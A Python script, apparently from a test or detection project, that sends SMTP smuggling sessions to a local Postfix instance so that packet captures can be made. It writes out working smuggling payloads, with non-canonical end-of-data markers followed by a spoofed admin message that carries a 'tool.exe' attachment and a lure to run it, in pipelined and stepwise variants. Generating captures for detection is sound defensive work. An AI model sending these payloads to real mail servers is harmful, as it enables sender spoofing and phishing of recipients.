#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only
"""SMTP smuggling sessions for the smuggling capture (make-smuggle-pcaps.sh), sent to a real
server (the private Postfix of postfix-instance.sh) on 127.0.0.1.

    smuggle-client.py SCENARIO PORT

A scenario is MARKER-MODE: MARKER names the non-canonical end of data that follows the first
message's body (lf: <LF>.<LF>, crlf-lf: <CR><LF>.<LF>, lf-crlf: <LF>.<CR><LF>, cr: <CR>.<CR>);
after it come a second, smuggled transaction (MAIL, RCPT, DATA, a message with an attachment)
and the canonical <CR><LF>.<CR><LF>. MODE "pipelined" sends the first message, the smuggled
transaction and QUIT in one write after the 354 (the attack of the 2023 disclosures); MODE
"stepwise" sends the first message up to the end of the marker, waits a moment for a reply
(a server that takes the marker as the end answers it), and then sends the rest one line at a
time, waiting for each reply the server gives. Every wait has a timeout; every loop is bounded.
"""
import socket
import sys

HOST = "127.0.0.1"
TIMEOUT = 20
EHLO = b"EHLO client.shrike.test\r\n"
MARKERS = {"lf": b"\n.\n", "crlf-lf": b"\r\n.\n", "lf-crlf": b"\n.\r\n", "cr": b"\r.\r"}

FIRST = (b"Date: Thu, 01 Jan 2026 00:00:00 +0000\r\nFrom: alice@client.shrike.test\r\n"
         b"To: bob@shrike.test\r\nSubject: SHRIKE-SMUGGLE first\r\n"
         b"Message-Id: <shrike-smuggle-first@client.shrike.test>\r\n\r\nThe first message.")
SMUGGLED_CMDS = [b"MAIL FROM:<admin@shrike.test>\r\n", b"RCPT TO:<bob@shrike.test>\r\n",
                 b"DATA\r\n"]
SMUGGLED_MSG = (b"Date: Thu, 01 Jan 2026 00:00:00 +0000\r\nFrom: admin@shrike.test\r\n"
                b"To: bob@shrike.test\r\nSubject: SHRIKE-SMUGGLE spoofed\r\n"
                b"Message-Id: <shrike-smuggle-spoofed@client.shrike.test>\r\n"
                b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n"
                b"--b1\r\nContent-Type: text/plain\r\n\r\nPlease run the attached tool.\r\n"
                b"--b1\r\nContent-Type: application/octet-stream\r\n"
                b"Content-Disposition: attachment; filename=\"tool.exe\"\r\n"
                b"Content-Transfer-Encoding: base64\r\n\r\nTVqQAAMAAAAEAAAA//8AALgAAAA=\r\n"
                b"--b1--\r\n")
END = b"\r\n.\r\n"


class Conn:
    def __init__(self, port):
        self.sock = socket.create_connection((HOST, port), timeout=TIMEOUT)
        self.buf = b""
        self.closed = False

    def replies(self, n, wait=TIMEOUT):
        """Reads up to n whole replies, waiting at most wait seconds for each; returns how
        many came (fewer when the server closed or stayed silent)."""
        got = 0
        self.sock.settimeout(wait)
        for _ in range(n):
            for _ in range(1000):
                lines = self.buf.split(b"\r\n")
                done = next((i for i, l in enumerate(lines[:-1])
                             if len(l) >= 4 and l[3:4] == b" "), None)
                if done is not None:
                    print("  <", lines[done].decode(errors="replace"))
                    self.buf = b"\r\n".join(lines[done + 1:])
                    got += 1
                    break
                if self.closed:
                    return got
                try:
                    chunk = self.sock.recv(65536)
                except socket.timeout:
                    return got
                if not chunk:
                    self.closed = True
                    continue
                self.buf += chunk
            else:
                raise SystemExit("reply too long")
        return got

    def send(self, data):
        if not self.closed:
            try:
                self.sock.sendall(data)
            except OSError:
                self.closed = True


def main():
    name, port = sys.argv[1], int(sys.argv[2])
    marker_name, mode = name.rsplit("-", 1)
    marker = MARKERS[marker_name]
    c = Conn(port)
    c.replies(1)
    for line in (EHLO, b"MAIL FROM:<alice@client.shrike.test>\r\n", b"RCPT TO:<bob@shrike.test>\r\n",
                 b"DATA\r\n"):
        c.send(line)
        c.replies(1)
    if mode == "pipelined":
        c.send(FIRST + marker + b"".join(SMUGGLED_CMDS) + SMUGGLED_MSG + END + b"QUIT\r\n")
        c.replies(7, wait=3)
    else:
        c.send(FIRST + marker)
        if c.replies(1, wait=2):  # the server ended the message at the marker
            for line in SMUGGLED_CMDS:
                c.send(line)
                c.replies(1)
            c.send(SMUGGLED_MSG + END)
        else:  # still in the message: the rest is body, ended by the canonical marker
            c.send(b"".join(SMUGGLED_CMDS) + SMUGGLED_MSG + END)
        c.replies(1, wait=3)
        c.send(b"QUIT\r\n")
        c.replies(1, wait=3)
    try:
        c.sock.shutdown(socket.SHUT_WR)
        for _ in range(100):
            if not c.sock.recv(65536):
                break
    except OSError:
        pass
    c.sock.close()
    print("done", name)


if __name__ == "__main__":
    main()
